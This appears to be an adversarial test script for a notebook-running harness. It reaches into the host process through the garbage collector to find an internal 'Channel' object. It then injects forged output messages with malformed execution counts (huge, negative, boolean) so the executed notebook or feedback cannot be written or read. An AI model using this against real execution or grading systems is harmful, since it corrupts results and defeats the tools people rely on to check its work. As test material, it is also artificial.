"""Numbers its results with what is no count: thousands of digits, negative numbers, booleans; and names outputs with
lists.
"""

SUCCESS = "an executed notebook, or a page of feedback, that cannot be written or read"

# %%
import gc
import json
import struct

channel = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Channel")
for count in ("9" * 4300, "-1", "true", "-" + "9" * 4000, "0"):
    result = '"output_type": "execute_result", "data": {"text/plain": "x"}, "metadata": {"width": 1e308}'
    text = (
        f'{{"event": "output", "cell": "extra-1", "display": "x", "output": {{{result}, "execution_count": {count}}}}}'
    )
    channel._writer.write(struct.pack("<II", len(text), 0) + text.encode())
    channel._writer.flush()
print(json.dumps({"attempted": True}))
